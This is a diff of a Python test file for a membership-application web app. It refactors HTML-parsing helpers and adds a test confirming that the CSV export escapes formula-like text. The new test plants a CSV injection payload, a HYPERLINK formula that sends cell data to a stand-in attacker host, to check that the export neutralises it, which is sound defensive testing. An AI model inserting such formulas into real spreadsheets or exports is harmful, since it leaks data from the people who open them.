@@ -6,57 +6,20 @@ from __future__ import annotations
 import csv
 import io
 from datetime import date, timedelta
-from html.parser import HTMLParser
 
 from sqlalchemy import select, update
 
 from app.accounts.models import Role
 from app.membership.models import Assignment, Membership
-from tests.factories import Factory, csrf_from
+from tests.factories import Factory
+from tests.html import Page, csrf_from
 from tests.membership.helpers import GOOD_REVIEW, decide, reviewed, submitted, under_review
 
 
-class _Options(HTMLParser):
-    """The options of the reviewer select: (value, disabled, text)."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.options: list[list[object]] = []
-        self._inside = False
-        self._select = False
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        values = dict(attrs)
-        if tag == "select":
-            self._select = values.get("name") == "reviewer_id"
-        if tag == "option" and self._select:
-            self.options.append([values.get("value"), "disabled" in values, ""])
-            self._inside = True
-
-    def handle_endtag(self, tag: str) -> None:
-        if tag == "option":
-            self._inside = False
-        if tag == "select":
-            self._select = False
-
-    def handle_data(self, data: str) -> None:
-        if self._inside:
-            self.options[-1][2] = str(self.options[-1][2]) + data
-
-
 def _links(html: str) -> list[str]:
-    class Links(HTMLParser):
-        def __init__(self) -> None:
-            super().__init__()
-            self.hrefs: list[str] = []
-
-        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-            if tag == "a":
-                self.hrefs.append(dict(attrs).get("href") or "")
-
-    parser = Links()
-    parser.feed(html)
-    return [h for h in parser.hrefs if h.startswith("/applications/") and h[14:].isdigit()]
+    """The links to applications, in the order the page lists them."""
+    hrefs = [link.href for link in Page(html).links()]
+    return [h for h in hrefs if h.startswith("/applications/") and h[14:].isdigit()]
 
 
 def test_committee_queue_filters_by_own_assignment_state(factory: Factory) -> None:
@@ -140,9 +103,12 @@ def test_reviewer_is_chosen_by_name_and_conflicted_members_are_disabled(
     browser = staff.browser
     assert browser is not None
     page = browser.get(f"/applications/{case.application_id}?lang=en")
-    parser = _Options()
-    parser.feed(page.text)
-    options = {str(o[2]).split(" — ")[0]: (o[0], o[1]) for o in parser.options if o[0]}
+    choices = Page(page.text).find("select", name="reviewer_id").find_all("option")
+    options = {
+        o.text.split(" — ")[0]: (o.get("value"), "disabled" in o.attrs)
+        for o in choices
+        if o.get("value")
+    }
     assert options["Free Reviewer"] == (str(free.id), False)
     assert options["Rival Reviewer"] == (str(rival_owner.id), True)
     response = browser.post(
@@ -213,3 +179,25 @@ def test_staff_suspend_and_lift_from_the_certificate_page(factory: Factory) -> N
     assert "Unpaid" in page.text and "Lift the suspension" in page.text
     browser.post(f"/memberships/{membership_id}/reinstate", data={"csrf_token": token})
     assert staff.api.get(f"/api/v1/memberships/{membership_id}").json()["status"] == "active"
+
+
+def test_csv_export_keeps_formula_like_text_as_text(factory: Factory) -> None:
+    case = reviewed(factory)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    with factory.database.session_scope() as session:
+        from app.accounts.models import Organisation
+        from app.membership.models import Application
+
+        organisation = session.get(Organisation, case.organisation.id)
+        application = session.get(Application, case.application_id)
+        assert organisation is not None and application is not None
+        organisation.name, organisation.region = formula, "@SUM(1+1)"
+        application.summary = "+7 913 000-00-00 call us"
+    export = case.staff.api.get("/applications?format=csv")  # type: ignore[union-attr]
+    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+    assert rows[0][1] == "organisation" and rows[0][4] == "region" and rows[0][-1] == "summary"
+    row = rows[1]
+    assert row[1] == "'" + formula
+    assert row[4] == "'@SUM(1+1)"
+    assert row[-1] == "'+7 913 000-00-00 call us"
+    assert row[2] == case.organisation.inn  # ordinary text is left alone
